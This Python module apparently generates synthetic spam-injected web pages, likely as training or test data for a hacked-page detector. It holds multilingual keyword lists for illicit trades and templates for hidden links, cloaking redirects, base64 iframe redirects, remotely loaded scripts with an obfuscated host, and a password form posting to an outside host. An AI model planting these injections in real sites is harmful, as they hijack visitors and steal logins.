"""Unlisted trades and unused tags; untuned until first runs of 0.42 and 0.58, then used to mend."""

# ruff: noqa: E501 (markup reads better on one line)
import base64
import random
from collections.abc import Callable

from clean_pages import Clean

TRADES = (
    "清债讨账公司上门催收|私家侦探取证婚外情|老赖行踪查找|要账团队成功后付费|手机通话清单打印",
    "摇号指标带牌过户|京牌出租五年起|沪牌代拍包中|车辆免检盖戳|非法改装排气",
    "茅台老酒高价上门收|黄金首饰典当套现|二手名表当场打款|游戏装备收购|购物卡折现",
    "隆鼻假体材料特惠|瘦脸针水光针团购|植发三千根特价|抽脂塑形分期零首付|割双眼皮网红款",
    "改命转运开光手串|大师算姻缘测八字|借运符咒请符|风水布局远程调理|求子灵符",
    "原始股内部认购名额|涨停牛股每日推送|期货喊单包盈利|数字藏品抢先埋伏|矿机托管坐等分红",
    "霸总短剧全集网盘|未删减漫画汉化组|限制级动漫百度云|蓝光原盘迅雷链接|热播剧抢先看会员共享",
    "充气娃娃实体货|情趣内衣透明款|同志会所交友|女王调教俱乐部|原味丝袜转让",
    "电子烟一次性小烟现货|雪茄走私裸盒|外烟爆珠薄荷味|槟榔免税直邮|洋酒保税仓",
    "抢票插件候补神器|挂号黄牛专家号|演唱会内场票代抢|高铁票秒抢通道|景区免预约代入园",
    "apuestas deportivas sin depósito|préstamos rápidos online|farmacia sin receta|casino en vivo bono",
    "casino en ligne sans dépôt|pilules pas cher livraison|rencontre coquine ce soir|crédit rapide sans justificatif",
    "canlı bahis siteleri|deneme bonusu veren|kaçak iddaa giriş|escort bayan ilanları",
    "كازينو اون لاين|مراهنات كرة القدم|قروض سريعة|منشطات جنسية للبيع",
)
HOSTS = (
    "www.jnhtwy.com zzsqmy.cn www.kfdlzs.com hbxdyl.net 8866ty.com www.mlgsfc.com bx-fw.com".split()
)
Put = Callable[[random.Random, Clean, list[str]], str]


def _host(source: random.Random) -> str:
    return source.choice(HOSTS)


def _links(source: random.Random, words: list[str]) -> str:
    return " ".join(
        f"<a href='https://{_host(source)}/a/{n}.html'>{word}</a>" for n, word in enumerate(words)
    )


SPOTS: tuple[Put, ...] = (
    lambda s, c, w: c.html(title=" | ".join(w[:3])),
    lambda s, c, w: c.html(head=f"<meta name='keywords' content='{'，'.join(w)}'>"),
    lambda s, c, w: c.html(last=f"<p>友情链接：{_links(s, w[:3])}</p>"),
    lambda s, c, w: c.html(middle=f"<p>{c.paragraphs[-1]}</p><p>{_links(s, w[:2])}</p>"),
    lambda s, c, w: c.html(middle=f"<span style='font-size:0px'>{'，'.join(w[:4])}</span>"),
    lambda s, c, w: c.html(middle=f"<p>{'_'.join(w[:4])}_</p>"),
    lambda s, c, w: c.html(first=f"<p>{' - '.join(w[:4])}</p>"),
    lambda s, c, w: c.html(
        middle=f"<p>{w[0]}，{w[1]}，{w[2]}，咨询薇信：ly{s.randrange(10**5, 10**6)}</p>"
    ),
    lambda s, c, w: c.html(behind=f"<div>{_links(s, w[:2])}</div>"),
    lambda s, c, w: c.html(last=f"<h2>{w[0]}</h2><p>{w[1]}、{w[2]}、{w[3]}</p>"),
)


def other_trades(source: random.Random, clean: Clean) -> str:
    """Offer what the lists never thought of, in places where advertising stands."""
    words = source.choice(TRADES).split("|")
    source.shuffle(words)
    return source.choice(SPOTS)(source, clean, words)


def borrowed_places(source: random.Random, clean: Clean) -> str:
    """Reach visitors by tags and attributes that no family used before."""
    host, words = _host(source), source.choice(TRADES).split("|")
    links = _links(source, words[:3])
    frame = base64.b64encode(f"<script>top.location='https://{host}/'</script>".encode()).decode()
    pieces = [
        {"middle": f"<dialog>{links}</dialog>"},
        {"middle": f"<font size=1 color='#FEFEFE'>{links}</font>"},
        {"head": f"<style>.ft:after{{content:'{words[0]} {words[1]} {words[2]}'}}</style>"},
        {
            "last": f"<svg width='1' height='1'><a xlink:href='https://{host}/'><text>{words[0]}</text></a></svg>"
        },
        {"last": f"<iframe src='data:text/html;base64,{frame}'></iframe>"},
        {
            "middle": f"<map name='m'><area shape='default' href='https://{host}/' alt='{words[0]}'></map><img src='/b.jpg' usemap='#m'>"
        },
        {
            "middle": f"<form><button formaction='https://{host}/in.php'>提交</button><input type=password></form>"
        },
        {
            "last": f"<object type='text/html' data='https://{host}/' style='position:fixed;inset:0;width:100%;height:100%'></object>"
        },
        {
            "last": f"<script>fetch('https://{host}/l.json').then(r=>r.text()).then(t=>{{document.body.innerHTML+=t}})</script>"
        },
        {
            "last": f"<script>const s=document.createElement('script');s.src='https://'+['{host[:6]}','{host[6:]}'].join('');document.head.append(s)</script>"
        },
        {
            "last": f"<script>if(document.referrer.match(/\\.(baidu|sm|sogou)\\./))setTimeout(()=>open('https://{host}','_top'),1)</script>"
        },
        {"middle": f"<div style='max-width:0;max-height:0;overflow:hidden'>{links}</div>"},
        {"middle": f"<ul style='position:relative;left:-200vw'>{links}</ul>"},
        {"middle": f"<p style='color:#ffffff01'>{links}</p>"},
        {
            "head": f"<link rel='dns-prefetch' href='//{host}'><script async src='//{host}/u/9f3a'></script>"
        },
        {"head": f"<meta http-equiv='Refresh' content='8; URL=&#104;ttps://{host}'>"},
        {"middle": f"<a href='https://{host}/' style='position:fixed;inset:0;z-index:9999'></a>"},
        {
            "last": f"<embed src='https://{host}/p.swf' width='100%' height='90' allowscriptaccess='always'>"
        },
    ]
    return clean.html(**source.choice(pieces))


SEVENTH: dict[str, Callable[[random.Random, Clean], str]] = {
    "other trades": other_trades,
    "borrowed places": borrowed_places,
}
